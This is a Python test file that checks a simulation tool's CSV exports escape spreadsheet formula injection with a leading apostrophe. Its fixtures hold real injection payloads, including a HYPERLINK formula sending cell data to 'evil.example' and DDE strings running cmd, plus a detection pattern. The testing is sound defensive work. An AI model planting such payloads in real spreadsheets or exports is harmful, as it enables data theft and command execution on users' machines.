"""A cell that Excel or WPS would run as a formula (=HYPERLINK(…), =cmd|…, +, -, @) reaches no CSV a
user may open as a formula: every CSV writer makes it text with a leading apostrophe, as the
workbook does, and civsim reads it back as it was. Numbers stay numbers."""

import io

import numpy as np
import pandas as pd
import pytest

from civsim import cli, engine, params, roll_io, tables

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+SUM(A1:A9)",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab first": "\t=1+1",
    "carriage return first": "\r=1+1",
    "full-width equals": "＝1+1",
}
NUMBERS = {"negative amount": "-12.50", "positive sign": "+3", "exponent": "-1e3", "plain": "830"}


def written_cells(frame: pd.DataFrame) -> pd.DataFrame:
    out = io.StringIO()
    tables.write_csv(frame, out)
    return pd.read_csv(io.StringIO(out.getvalue()), dtype=str, keep_default_na=False)


@pytest.mark.case("formulas")
@pytest.mark.parametrize("cell", FORMULAS.values(), ids=FORMULAS.keys())
def test_a_formula_cell_is_written_as_text_and_read_back_as_it_was(tmp_path, cell):
    frame = pd.DataFrame({"street": [cell, "吴家山街道"], "amount": [-12.5, 830.0]})
    cells = written_cells(frame)
    kept = cell.replace("\r", "\n")  # a carriage return would split the row; a newline is quoted
    assert cells["street"][0] == "'" + kept
    assert cells["amount"].tolist() == ["-12.5", "830.0"]  # a negative amount is a number, not text
    path = tmp_path / "t.csv"
    tables.write_csv(frame, path)
    back = tables.read_csv(path, {"street": "str", "amount": "float"})
    assert back["street"][0] == kept and back["amount"][0] == -12.5


@pytest.mark.case("formulas")
@pytest.mark.parametrize("cell", NUMBERS.values(), ids=NUMBERS.keys())
def test_a_number_in_a_text_column_stays_a_number(cell):
    assert written_cells(pd.DataFrame({"value": [cell, "x"]}))["value"][0] == cell


@pytest.fixture(scope="module")
def hostile_roll_folder(tmp_path_factory):
    """A roll whose streets are formulas, saved as civsim saves a roll."""
    base = params.load("420112")
    roll = engine.Simulation(base, 2020, 1).roll
    names = np.array(list(FORMULAS.values()) + ["吴家山街道"], dtype=object)
    roll.households["street"] = pd.Categorical(names[np.arange(len(roll.households)) % len(names)])
    folder = tmp_path_factory.mktemp("roll")
    roll_io.save(roll, folder)
    return folder


def assert_no_formula(path):
    text = path.read_text(encoding="utf-8")
    cells = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    for column in cells.columns:
        values = cells[column]
        live = values[
            values.str.match(r"^[=+@\t\r\n＝]")
            | (values.str.startswith("-") & ~values.str.match(r"^-[\d.]+(e[+-]?\d+)?$"))
        ]
        assert live.empty, (column, live.head().tolist())
    return cells


@pytest.mark.case("formulas")
def test_the_saved_roll_holds_no_formula_and_reads_back_the_streets(hostile_roll_folder):
    cells = assert_no_formula(hostile_roll_folder / "households.csv")
    kept = {v.replace("\r", "\n") for v in FORMULAS.values()}
    assert kept <= {c[1:] for c in cells["street"] if c.startswith("'")}
    back = roll_io.load_folder(params.load("420112"), 2020, hostile_roll_folder)
    assert kept <= set(map(str, back.households["street"].cat.categories))


@pytest.mark.case("formulas")
def test_compare_by_street_csv_holds_no_formula(hostile_roll_folder, tmp_path, capsys):
    out = tmp_path / "by_street.csv"
    code = cli.main(
        [
            "compare",
            "--district",
            "420112",
            "--year",
            "2021",
            "--scenario",
            "dibao_plus5_july",
            "--roll",
            str(hostile_roll_folder),
            "--csv",
            str(out),
        ]
    )
    assert code == 0, capsys.readouterr().err
    cells = assert_no_formula(out)
    assert any(c.startswith("'=HYPERLINK") for c in cells["street"])


@pytest.mark.case("formulas")
def test_the_table_on_standard_output_holds_no_formula(hostile_roll_folder, tmp_path, capsys):
    code = cli.main(
        [
            "compare",
            "--district",
            "420112",
            "--year",
            "2021",
            "--scenario",
            "dibao_plus5_july",
            "--roll",
            str(hostile_roll_folder),
        ]
    )
    out = capsys.readouterr().out
    assert code == 0
    path = tmp_path / "stdout.csv"
    path.write_text(out, encoding="utf-8")
    assert_no_formula(path)
